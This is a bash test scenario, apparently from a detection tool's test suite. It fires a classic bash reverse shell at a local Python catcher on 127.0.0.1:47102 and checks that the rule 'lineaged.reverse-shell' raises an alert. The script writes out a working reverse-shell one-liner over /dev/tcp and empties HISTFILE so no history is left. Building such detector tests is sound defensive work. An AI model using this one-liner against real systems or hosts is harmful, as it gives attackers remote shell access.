#!/bin/bash
# reverse-shell.sh SCRATCHDIR: the classic bash reverse shell. A catcher
# (/usr/bin/python3, SCRATCHDIR/catcher.py, listening on 127.0.0.1:47102)
# sends "id\nexit\n" to whoever connects and reads the reply; then
#   /bin/bash -c '/bin/bash --norc -i >& /dev/tcp/127.0.0.1/47102 0>&1'
# connects out to it: the -c bash (parent /usr/bin/timeout) forks a child
# that opens the socket (bash's /dev/tcp: connect to 127.0.0.1:47102) and
# execs an interactive bash whose stdin, stdout and stderr are that socket.
# (--norc: root's .bashrc here runs pyenv; HISTFILE is emptied so that
# the interactive shell writes no history file.) /usr/bin/timeout -k 1 5
# bounds it; the catcher has its own 10 s alarm.
#
# Expected alert: rule lineaged.reverse-shell
#   process.executable  /usr/bin/bash   (the bash that connects to
#                       127.0.0.1:47102 and execs `/bin/bash --norc -i`, also
#                       /usr/bin/bash, with its stdio on the socket; its
#                       parent is the -c bash, whose parent is timeout)
set -euo pipefail
# shellcheck source=lib.sh
. "$(dirname "${BASH_SOURCE[0]}")/lib.sh"
trap restore_all EXIT
scn_begin reverse-shell "$@"

port=47102
port_free "$port" || die "127.0.0.1:$port is in use"
created "$SCRATCH/catcher.py"
created "$SCRATCH/catcher.ready"
cat >"$SCRATCH/catcher.py" <<'PY'
import signal
import socket
import sys

signal.alarm(10)  # never outlive the scenario
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", 47102))
s.listen(1)
open(sys.argv[1], "w").close()  # listening
s.settimeout(8)
conn, _ = s.accept()
conn.settimeout(5)
conn.sendall(b"id\nexit\n")
reply = b""
while True:
    try:
        b = conn.recv(4096)
    except socket.timeout:
        break
    if not b:
        break
    reply += b
conn.close()
sys.stderr.write("catcher got: %r\n" % reply)
sys.exit(0 if b"uid=" in reply else 1)
PY

/usr/bin/python3 "$SCRATCH/catcher.py" "$SCRATCH/catcher.ready" &
catcher=$!
track_pid "$catcher"
wait_file "$SCRATCH/catcher.ready"

HISTFILE='' /usr/bin/timeout -k 1 5 \
	/bin/bash -c '/bin/bash --norc -i >& /dev/tcp/127.0.0.1/47102 0>&1' </dev/null ||
	die "the reverse shell exited with $?"
wait "$catcher" || die "the catcher did not get the output of id"
